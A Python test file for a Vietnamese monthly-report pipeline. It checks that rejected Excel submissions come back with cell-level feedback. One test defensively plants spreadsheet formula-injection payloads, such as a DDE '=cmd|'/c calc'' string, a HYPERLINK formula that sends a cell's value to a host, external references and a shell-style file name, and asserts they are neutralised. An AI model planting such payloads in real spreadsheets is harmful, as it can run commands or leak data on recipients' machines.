"""The feedback workbook: a reporter gets its own file back, mends what it says, sends it again, and it is accepted."""

import re
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from types import ModuleType
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from mangnon import tell
from mangnon.codes import CodeLists
from mangnon.feedback import harmless
from mangnon.forms.template import write_template

LISTS = CodeLists.from_package()
JULY = date(2020, 7, 1)
HOSTILE = (
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://example.org/?"&A1,"bấm")', "+1", "-2+3", "@SUM(1)", "\t=1+1", "=1+1",
)  # fmt: skip
MEASURES = """
    select sum(event_count), sum(attendances) from marts.fct_events
    where period = '2020-07-01' and reporter_key = hashtextextended('193', 0)
"""

Night = Callable[[], int | None]


def event(area: str, count: int, **other: object) -> dict[str, object]:
    return {"area": area, "event_type": "communication", "event_count": count, "attendances": count * 100} | other


def submission(path: Path, reporter: str = "193", lines: Any = None, revision: int = 2, **cover: Any) -> Path:
    """A workbook of July 2020: by default three lines of events and one of programme sites."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if lines is None:
        sites = [{"area": reporter, "programme": "mang_non_team", "site_count": 20}]
        lines = {"events": [event(reporter, count) for count in (2, 3, 4)], "programme_sites": sites}
    cover = {"reason": "sửa số liệu"} | cover
    write_template(path, LISTS.reporters[reporter], JULY, LISTS, lines, revision=revision, **cover)
    return path


def typed_wrong(path: Path, **cells: str) -> Path:
    """In the file's first form other texts stand in these cells; all else is as the template's formulas left it."""
    with zipfile.ZipFile(path) as book:
        parts = {
            name: book.read(name).decode() if name.endswith(".xml") else book.read(name) for name in book.namelist()
        }
    sheet = parts["xl/worksheets/sheet3.xml"]  # after the cover and the instructions
    for cell, text in cells.items():
        said = f'<c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c>'
        sheet, count = re.subn(rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)', said, sheet)
        assert count == 1, cell
    parts["xl/worksheets/sheet3.xml"] = sheet
    with zipfile.ZipFile(path, "w") as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return path


def told(outbox: Path) -> list[Path]:
    return sorted(outbox.glob("*/**/*.xlsx"))


def lines_of(book: openpyxl.Workbook) -> list[dict[str, Any]]:
    """The list of the summary, by heading; with the target of its link."""
    rows = list(book["Phản hồi"].iter_rows())
    start = next(number for number, row in enumerate(rows) if row[0].value == "Mức độ")
    headings = [cell.value for cell in rows[start]]
    return [
        dict(zip(headings, [cell.value for cell in row], strict=True)) | {"link": row[2].hyperlink}
        for row in rows[start + 1 :]
    ]


def words_of(book: openpyxl.Workbook) -> str:
    return "\n".join(str(cell.value) for row in book["Phản hồi"].iter_rows() for cell in row if cell.value)


def linked(book: openpyxl.Workbook, line: dict[str, Any]) -> Any:
    """The cell that a line's link leads to."""
    title, _, coordinate = line["link"].location.rpartition("!")
    return book[title.strip("'")][coordinate]


def query(warehouse: ModuleType, statement: str) -> list[tuple[Any, ...]]:
    with warehouse.connect() as connection:
        return list(connection.execute(statement).fetchall())


def test_the_whole_circle_from_refusal_to_publication(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    inbox, outbox = tmp_path / "inbox", tmp_path / "outbox"
    typed_wrong(submission(inbox / "Báo cáo tháng 7.xlsx"), F4="hai trăm", E6="2,5")
    before = query(published, MEASURES)
    assert run_night() == 2, "the programme sites are published"
    assert query(published, MEASURES) == before

    assert len(tell.write_feedback()) == 1
    (workbook,) = told(outbox)
    assert workbook.parent == outbox / "193" / "2020-07"
    assert workbook.name.startswith("Báo cáo tháng 7.phan-hoi.lan-2.")
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames[:3] == ["Phản hồi", "Bìa", "Hướng dẫn"]
    assert "tăng “Lần gửi” lên 3" in words_of(book)
    wrong = [line for line in lines_of(book) if line["Mức độ"] == "Phải sửa" and line["Cột"]]
    assert [(line["Trang"], line["Ô"], line["Giá trị đã đọc"]) for line in wrong] == [
        ("Hoạt động", "F4", "hai trăm"),
        ("Hoạt động", "E6", "2,5"),
    ]
    assert all("Cách ghi: " in line["Nội dung và cách sửa"] for line in wrong)
    for line, number in zip(wrong, (200, 4), strict=True):
        cell = linked(book, line)
        assert cell.comment.text.startswith("PHẢI SỬA: ")
        assert cell.fill.fgColor.rgb == "FFFFC9C4"
        cell.value = number
    for row in book["Bìa"].iter_rows():
        if row[0].value == "Lần gửi *":
            row[1].value = 3
        if row[0].value == "Lý do gửi lại":
            row[1].value = "sửa theo phản hồi"
    book.save(inbox / "sửa.xlsx")

    assert run_night() == 3
    assert query(published, MEASURES) == [(9, 900)]
    states = query(published, "select revision, form, state from ops.loads where revision in (2, 3) order by load_id")
    assert states == [
        (2, "events", "refused"), (2, "programme_sites", "accepted"),
        (3, "events", "accepted"), (3, "programme_sites", "same"),
    ]  # fmt: skip
    assert tell.write_feedback() == []
    assert told(outbox) == [workbook]


def test_the_sums_of_the_cover_go_on_summing(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx"), F4="hai trăm")
    run_night()
    tell.write_feedback()
    cover = openpyxl.load_workbook(told(tmp_path / "outbox")[0])["Bìa"]
    sums = {row[2].value: row[3].value for row in cover.iter_rows(min_row=11) if row[0].value == "Hoạt động"}
    assert sums
    assert all(formula.startswith("=SUM('Hoạt động'!$") for formula in sums.values())


def test_what_a_file_holds_never_acts(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    path = submission(tmp_path / "inbox" / "=cmd|' /c calc'!A1 $(x) <b>.xlsm")
    book = openpyxl.load_workbook(path)
    sheet = book["Hoạt động"]
    for row, text in enumerate(HOSTILE, start=10):
        sheet.cell(row, 3).value = text
        sheet.cell(row, 3).data_type = "s"
    sheet["A30"] = '=WEBSERVICE("http://example.org")'
    sheet["B30"].hyperlink = "http://example.org/"
    sheet["C30"].comment = Comment("=1+1", "ai đó")
    sheet.add_data_validation(DataValidation("list", formula1="=[1]Sheet1!$A$1", sqref="D30"))
    sheet.conditional_formatting.add("A1:B9", openpyxl.formatting.rule.FormulaRule(["[1]Sheet1!$A$1"]))
    book.defined_names["x"] = DefinedName("x", attr_text="cmd|'/c calc'!A1")
    book.create_sheet("Khác").cell(1, 1).value = "=SUM(Z1:Z9)"
    book.save(path)
    run_night()
    tell.write_feedback()

    (returned,) = told(tmp_path / "outbox")
    assert returned.parent == tmp_path / "outbox" / "193" / "2020-07"
    with zipfile.ZipFile(returned) as parts:
        contents = {name: parts.read(name).decode() for name in parts.namelist()}
    formulas = [
        formula.text or ""
        for name, content in contents.items()
        if "worksheets/sheet" in name and name.endswith(".xml")
        for formula in ElementTree.fromstring(content).iter(
            "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}f"
        )
    ]
    assert formulas
    assert all(
        re.fullmatch(r"SUM\('[^'\[\]|]+'!\$[A-Z]\$4:\$[A-Z]\$1048576\)(-SUMIFS\(.*\))?", text) for text in formulas
    )
    known = r"xl/(workbook|styles|sharedStrings|theme/theme1|worksheets/sheet\d+|comments/comment\d+|drawings/\w+)"
    other = r".*\.rels|docProps/(app|core)\.xml|\[Content_Types\]\.xml"
    strange = [name for name in contents if not re.fullmatch(rf"{known}\.(xml|vml)|{other}", name)]
    assert not strange
    everything = "".join(contents.values())
    assert "External" not in everything
    assert "macroEnabled" not in everything
    assert not re.search(r"definedName[^>]*>[^<]*cmd", everything)
    shown = openpyxl.load_workbook(returned)
    for row, text in enumerate(HOSTILE, start=10):
        cell = shown["Hoạt động"].cell(row, 3)
        assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (text, "s", True)
    summary = [cell for line in shown["Phản hồi"].iter_rows() for cell in line]
    assert {cell.data_type for cell in summary} <= {"s", "n"}
    assert {line["Giá trị đã đọc"] for line in lines_of(shown)} >= {"=1+1", "@SUM(1)"}
    assert [limit.formula1 for limit in shown["Hoạt động"].data_validations.dataValidation if limit.type == "list"]
    assert not shown["Hoạt động"]["C30"].comment or "ai đó" not in shown["Hoạt động"]["C30"].comment.author


def test_an_accepted_form_with_a_warning_comes_back_too(
    published: ModuleType, tmp_path: Path, run_night: Night
) -> None:
    # Three people at an event are rather a conversation; and nobody says why it is sent again.
    submission(tmp_path / "inbox" / "a.xlsx", lines={"events": [event("193", 1, attendances=3)]}, reason="")
    assert run_night() == 2
    tell.write_feedback()
    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
    lines = lines_of(book)
    assert {line["Mức độ"] for line in lines} == {"Nên xem lại"}
    assert all(linked(book, line).comment.text.startswith("NÊN XEM LẠI: ") for line in lines)
    assert "Đã nhận, nhưng có điểm nên xem lại" in words_of(book)
    assert "BỊ TỪ CHỐI" not in words_of(book)


def test_a_cell_that_a_gate_names_is_marked(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    submission(
        tmp_path / "inbox" / "a.xlsx", lines={"events": [event("193", 1), event("193", 1, child_attendances=400)]}
    )
    run_night()
    with published.connect() as connection:
        connection.execute("delete from ops.verdict_cells")
        connection.execute(
            """
            insert into ops.verdict_cells (verdict_id, sheet_name, row_number, field, message)
            select verdict_id, 'Hoạt động', 5, 'child_attendances', 'Lượt trẻ em (400) nhiều hơn tổng (100).'
            from ops.verdicts where not is_met and load_id is not null and severity = 'critical'
            """
        )
    tell.write_feedback()
    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
    line = lines_of(book)[0]
    assert (line["Mức độ"], line["Trang"], line["Giá trị đã đọc"]) == ("Phải sửa", "Hoạt động", "400")
    assert line["Nội dung và cách sửa"] == "Lượt trẻ em (400) nhiều hơn tổng (100)."
    assert linked(book, line).value == 400
    assert linked(book, line).comment.text == "PHẢI SỬA: Lượt trẻ em (400) nhiều hơn tổng (100)."


def test_a_file_that_cannot_be_opened_gets_the_summary_alone(
    published: ModuleType, tmp_path: Path, run_night: Night
) -> None:
    (tmp_path / "inbox").mkdir()
    (tmp_path / "inbox" / "báo cáo.xlsx").write_bytes(b"PK\x03\x04 cut off")
    run_night()
    tell.write_feedback()
    (returned,) = told(tmp_path / "outbox")
    assert returned.parent == tmp_path / "outbox" / "_khong-ro-don-vi"
    book = openpyxl.load_workbook(returned)
    assert book.sheetnames == ["Phản hồi"]
    assert "Không mở được tệp" in lines_of(book)[0]["Nội dung và cách sửa"]


CSV = """\
#reporter,194
#period,2020-07
#form,events
#revision,2
#reason,sửa số liệu
area,event_date,event_type,programme,event_count,attendances,child_attendances,caregiver_attendances,\
official_attendances,collaborator_attendances,delegations,qualifier
194,,communication,,1,100,,,,,,
194,,=1+1,,1,100,,,,,,
194,,communication,,1,100,,,,,,
"""


def test_a_csv_comes_back_as_its_concerned_rows(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    (tmp_path / "inbox").mkdir()
    (tmp_path / "inbox" / "a.csv").write_text(CSV, encoding="utf-8")
    run_night()
    tell.write_feedback()
    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
    assert book.sheetnames == ["Phản hồi", "Hoạt động"]
    rows = [[cell.value for cell in row] for row in book["Hoạt động"].iter_rows(min_row=2, max_col=4)]
    assert rows == [[8, "194", None, "=1+1"]]
    line = next(line for line in lines_of(book) if line["Cột"] == "Loại hoạt động")
    assert (line["Ô"], linked(book, line).value, linked(book, line).data_type) == ("C8", "=1+1", "s")
    assert "Sửa trong tệp của đơn vị, không sửa trong tệp này" in words_of(book)


def test_a_workbook_that_is_too_large_comes_back_as_its_concerned_rows(
    published: ModuleType, tmp_path: Path, run_night: Night, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(harmless, "LARGEST", 1000)
    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx"), F5="ba trăm")
    run_night()
    tell.write_feedback()
    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
    assert book.sheetnames == ["Phản hồi", "Hoạt động"]
    assert [cell.value for cell in book["Hoạt động"]["A"]] == ["Dòng trong tệp", 5]


def test_both_of_two_files_with_one_revision_are_told(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    lines = [{"events": [event("193", count)]} for count in (5, 6)]
    submission(tmp_path / "inbox" / "a.xlsx", lines=lines[0])
    run_night()
    assert tell.write_feedback() == []
    submission(tmp_path / "inbox" / "b.xlsx", lines=lines[1])
    run_night()
    assert [Path(place).name[0] for place in tell.write_feedback()] == ["a", "b"]
    for returned in told(tmp_path / "outbox"):
        book = openpyxl.load_workbook(returned)
        assert "Hai tệp khác nhau cùng lần gửi 2" in lines_of(book)[0]["Nội dung và cách sửa"]
        assert "TẠM GIỮ" in words_of(book)
    submission(tmp_path / "inbox" / "c.xlsx", lines=lines[1], revision=3)
    run_night()
    assert tell.write_feedback() == []


def test_what_is_replaced_already_is_not_told(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx"), F4="hai trăm")
    submission(tmp_path / "inbox" / "b.xlsx", revision=3)
    run_night()
    assert tell.write_feedback() == []


def test_made_up_data_say_so(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx", synthetic=True), F4="hai trăm")
    run_night()
    tell.write_feedback()
    assert "Dữ liệu mẫu (giả định)" in words_of(openpyxl.load_workbook(told(tmp_path / "outbox")[0]))


def test_the_sample_itself_gives_nobody_anything_to_mend(published: ModuleType) -> None:
    assert tell.write_feedback() == []
